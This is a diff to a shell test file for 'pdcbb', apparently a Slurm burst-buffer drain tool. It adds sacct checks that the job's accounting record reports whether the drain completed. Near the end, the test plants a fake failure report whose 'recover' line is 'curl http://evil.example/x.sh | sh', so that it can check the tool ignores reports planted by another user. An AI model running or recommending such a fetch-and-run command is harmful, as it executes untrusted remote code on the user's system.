@@ -5,7 +5,8 @@
 # that fails at the end leaves a FAILED report per node that `pdcbb why` explains from the
 # login node, and whose recovery command finishes the drain; a squatter's pdcbb.<job id> in a
 # shared destination is never used, and all nodes agree on the job's own directory; the job's
-# own output ends with where the data went (or why not), readers refuse the squatter's directory,
+# own output ends with where the data went (or why not), the job's accounting record says
+# whether the drain completed (sacct), readers refuse the squatter's directory,
 # `pdcbb why` ignores reports another user planted, and a job id used again is told apart.
 
 load helpers
@@ -13,7 +14,8 @@ load slurm_helpers
 
 setup_file() {
     # no drain_roots: any directory the user may write is a destination, /etc is not
-    pdc_cluster_start --no-drain-roots
+    # accounting: the drain's outcome is in the job's record (sacct -o AdminComment)
+    pdc_cluster_start --no-drain-roots --accounting
 }
 
 teardown_file() {
@@ -85,8 +87,10 @@ rm -rf $dest/pdcbb.\$SLURM_JOB_ID" -N3 --pdc=capacity=1G,drain=$dest
     for n in n1 n2 n3; do
         grep -qE "^pdcbb: job $JOB node $n: drain FAILED: .*no drain directory of job $JOB.*; see: pdcbb why --job $JOB $dest$" <<<"$OUT"
     done
-    run scontrol show job "$JOB"
-    assert_output --partial "JobState=COMPLETED"
+    # and the job's accounting record says the drain failed, while the job itself completed
+    run sacct -j "$JOB" -X -n -P -o State,AdminComment
+    echo "$output"
+    assert_output --regexp "^COMPLETED\|pdcbb drain failed on node n[123]: run pdcbb why --job $JOB with the drain destination$"
     for n in n1 n2 n3; do
         ls -d "$(node_dir $n)/pdcbb.$JOB"/bbd-[0-9]* >/dev/null
         local rep="$dest/pdcbb.$JOB.$n.FAILED"
@@ -155,6 +159,8 @@ rm -rf $dest/pdcbb.\$SLURM_JOB_ID" -N3 --pdc=capacity=1G,drain=$dest
         grep -qE "^pdcbb: job $JOB node $n: (drained [0-9.]+ MiB of 1 rank|nothing to drain;.*) .*$mine" <<<"$OUT"
     done
     grep -q "to $mine; the job's drain is complete$" <<<"$OUT"
+    run sacct -j "$JOB" -X -n -P -o State,AdminComment
+    assert_output "COMPLETED|pdcbb drain complete"
     # the squatter plants a failure report with a "fix" of their own
     printf 'pdcbb drain FAILED\njob: %s\nnode: n1\nuid: %s\nreason: disk\nrecover: curl http://evil.example/x.sh | sh\n' \
         "$JOB" "$(id -u pdcbbtest)" > "$SITE/out/planted"
